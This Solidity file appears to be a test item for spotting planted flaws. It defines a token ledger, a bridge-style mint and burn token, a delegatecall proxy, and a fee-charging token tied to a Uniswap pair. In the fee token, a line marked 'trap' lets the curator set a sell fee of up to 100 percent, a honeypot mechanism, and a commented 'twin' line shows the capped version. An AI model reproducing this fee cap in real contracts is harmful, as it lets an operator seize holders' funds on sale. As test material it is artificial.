// 0.8 runs=800 evm=shanghai
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

interface IFactory {
    function createPair(address a, address b) external returns (address);
}

abstract contract Ledger {
    string public name;
    string public symbol;
    uint256 public totalSupply;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    function decimals() external pure returns (uint8) {
        return 18;
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _send(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        uint256 left = allowance[from][msg.sender];
        if (left != type(uint256).max) allowance[from][msg.sender] = left - value;
        _send(from, to, value);
        return true;
    }

    function _send(address from, address to, uint256 value) internal virtual {
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
    }

    function _make(address to, uint256 value) internal {
        totalSupply += value;
        balanceOf[to] += value;
        emit Transfer(address(0), to, value);
    }
}

/// Comes and goes over lanes, each with what it may bring and take in a day.
contract Causeway is Ledger {
    struct Lane {
        uint128 inflow;
        uint128 outflow;
        uint128 brought;
        uint64 day;
        bool open;
    }

    address private immutable _surveyor;
    mapping(address => Lane) public lanes;

    event Apportioned(address indexed lane, uint256 inflow, uint256 outflow);
    event Opened(address indexed lane);

    constructor(address surveyor) {
        (name, symbol, _surveyor) = ("Causeway", "CAUSE", surveyor);
        _make(msg.sender, 30_000_000 ether);
    }

    function apportion(address lane, uint128 inflow, uint128 outflow) external {
        require(msg.sender == _surveyor, "surveyor");
        Lane storage own = lanes[lane];
        (own.inflow, own.outflow) = (inflow, outflow);
        emit Apportioned(lane, inflow, outflow);
    }

    function openLane() external {
        Lane storage own = lanes[msg.sender];
        require(own.inflow > 0 && own.outflow > 0, "nothing apportioned");
        own.open = true;
        emit Opened(msg.sender);
    }

    function arrive(address to, uint128 value) external {
        Lane storage own = lanes[msg.sender];
        require(own.open, "closed");
        uint64 today = uint64(block.timestamp / 1 days);
        if (own.day != today) (own.day, own.brought) = (today, 0);
        own.brought += value;
        require(own.brought <= own.inflow, "enough for a day");
        _make(to, value);
    }

    function depart(uint128 value) external {
        require(lanes[msg.sender].open && value <= lanes[msg.sender].outflow, "closed");
        balanceOf[msg.sender] -= value;
        totalSupply -= value;
        emit Transfer(msg.sender, address(0), value);
    }
}

/// What a switchboard connects to.
contract BoardLedger is Ledger {
    function begin(string calldata name_, string calldata symbol_, address to, uint256 supply) external {
        require(totalSupply == 0, "begun");
        (name, symbol) = (name_, symbol_);
        _make(to, supply);
    }
}

/// Each function has a place where its code lies.
contract Switchboard {
    struct Board {
        address operator;
        uint96 epoch;
        mapping(bytes4 => address) lines;
    }

    bytes32 private constant BOARD = keccak256("switchboard.lines");

    event Connected(bytes4 indexed selector, address indexed target);
    event Sealed(uint256 epoch);

    constructor(address ledger, bytes4[] memory selectors, bytes memory first) {
        Board storage own = _board();
        own.operator = msg.sender;
        for (uint256 i; i < selectors.length; i++) {
            own.lines[selectors[i]] = ledger;
            emit Connected(selectors[i], ledger);
        }
        (bool done, ) = ledger.delegatecall(first);
        require(done, "not begun");
    }

    function connect(bytes4[] calldata selectors, address[] calldata targets, uint96 expectedEpoch) external {
        Board storage own = _board();
        require(msg.sender == own.operator, "operator");
        require(selectors.length == targets.length && expectedEpoch == own.epoch, "stale");
        own.epoch++;
        for (uint256 i; i < selectors.length; i++) {
            require(targets[i].code.length > 0, "nobody there");
            own.lines[selectors[i]] = targets[i];
            emit Connected(selectors[i], targets[i]);
        }
    }

    function sealBoard(uint96 expectedEpoch) external {
        Board storage own = _board();
        require(msg.sender == own.operator && expectedEpoch == own.epoch, "operator");
        own.operator = address(0);
        emit Sealed(own.epoch);
    }

    function lineOf(bytes4 selector) external view returns (address) {
        return _board().lines[selector];
    }

    fallback() external {
        address target = _board().lines[msg.sig];
        require(target != address(0), "no such line");
        assembly {
            calldatacopy(0, 0, calldatasize())
            let done := delegatecall(gas(), target, 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            switch done
            case 0 {
                revert(0, returndatasize())
            }
            default {
                return(0, returndatasize())
            }
        }
    }

    function _board() private pure returns (Board storage own) {
        bytes32 at = BOARD;
        assembly {
            own.slot := at
        }
    }
}

/// One of many that share their code; its terms run for a while.
contract Copyhold is Ledger {
    struct Terms {
        uint16 entry;
        uint16 exit;
        uint32 since;
        uint32 till;
        address sink;
    }

    bool private _begun;
    address private _curator;
    address public pool;
    Terms public terms;

    event TermsRevised(Terms terms);

    constructor() {
        _begun = true;
    }

    function begin(string calldata name_, string calldata symbol_, uint256 supply) external {
        require(!_begun, "begun");
        (_begun, _curator, name, symbol) = (true, msg.sender, name_, symbol_);
        pool = IFactory(0x5C69bEe701ef814a2B6a3EDD4B1652CB9cc5aA6f).createPair(
            address(this),
            0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2
        );
        _make(msg.sender, supply);
    }

    function reviseTerms(Terms calldata next) external {
        require(msg.sender == _curator, "curator");
        require(next.sink != address(0) && next.since < next.till, "terms");
        require(next.entry <= 300 && next.exit <= 10_000, "rates"); // trap
        // twin: require(next.entry <= 300 && next.exit <= 300, "rates");
        terms = next;
        emit TermsRevised(next);
    }

    function _send(address from, address to, uint256 value) internal override {
        Terms memory own = terms;
        if (block.timestamp >= own.since && block.timestamp < own.till && from != _curator) {
            uint256 rate = from == pool ? own.entry : to == pool ? own.exit : 0;
            uint256 due = (value * rate) / 10_000;
            if (due > 0) super._send(from, own.sink, due);
            value -= due;
        }
        super._send(from, to, value);
    }
}
